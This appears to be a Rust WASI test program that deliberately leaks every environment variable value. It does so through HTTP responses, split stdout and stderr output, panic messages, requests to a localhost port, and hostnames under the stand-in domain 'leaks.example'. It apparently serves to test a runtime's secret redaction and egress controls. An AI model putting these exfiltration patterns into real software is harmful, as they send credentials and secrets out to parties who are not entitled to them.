//! Says what it should keep to itself: each value of its environment, in the way that `?how=` names.
//!
//! `tell` answers them, one line each, and `say` prints them whole and in pieces. `deny` asks hosts whose names they
//! are and which it may not ask; `ask` sends them to `127.0.0.1:PORT`, `?port=`, which may send them back, and answers
//! 500; `panic` ends with them. `kept` answers what the first call of this instance found.

use std::io::Write as _;
use std::sync::OnceLock;

use guest_programs::{number, query, reply};
use wasip2::http::outgoing_handler;
use wasip2::http::types::{
    Fields, IncomingBody, IncomingRequest, OutgoingBody, OutgoingRequest, ResponseOutparam, Scheme,
};

guest_programs::serve!(leaks);

static KEPT: OnceLock<String> = OnceLock::new();

fn leaks(request: IncomingRequest, out: ResponseOutparam) {
    let values: Vec<String> = std::env::vars().map(|(_, value)| value).collect();
    let all = values.join("\n");
    let kept = KEPT.get_or_init(|| all.clone());
    match query(&request, "how").as_deref() {
        Some("tell") => reply(out, 200, &all),
        Some("kept") => reply(out, 200, kept),
        Some("say") => {
            say(&values);
            reply(out, 200, "said\n");
        }
        Some("deny") => {
            for value in &values {
                ask(&format!("{value}.leaks.example"), "/", value);
            }
            reply(out, 200, "denied\n");
        }
        Some("ask") => {
            let authority = format!("127.0.0.1:{}", number(&request, "port", 80));
            for value in &values {
                ask(&authority, &format!("/?value={value}"), value);
            }
            reply(out, 500, &all);
        }
        _ => panic!("with {all}"),
    }
}

fn say(values: &[String]) {
    for value in values {
        println!("it is {value}.");
        eprintln!("{value}{value}");
        let (first, second) = value.split_at(value.len() / 2);
        for part in [first, second, "\n"] {
            print!("{part}");
            std::io::stdout().flush().expect("a stream");
        }
    }
}

/// Asks, and reads what is answered, if it may.
fn ask(authority: &str, path: &str, value: &str) {
    let fields = Fields::new();
    // A value of some lines is no header.
    drop(fields.append("x-value", value.as_bytes()));
    let request = OutgoingRequest::new(fields);
    request.set_scheme(Some(&Scheme::Http)).expect("a scheme");
    if request.set_authority(Some(authority)).is_err()
        || request.set_path_with_query(Some(path)).is_err()
    {
        return;
    }
    let body = request.body().expect("the first body");
    let Ok(future) = outgoing_handler::handle(request, None) else { return };
    drop(OutgoingBody::finish(body, None));
    future.subscribe().block();
    let Some(Ok(Ok(response))) = future.get() else { return };
    let body = response.consume().expect("the first body");
    let input = body.stream().expect("the first stream");
    while input.blocking_read(64 << 10).is_ok() {}
    drop(input);
    drop(IncomingBody::finish(body));
}
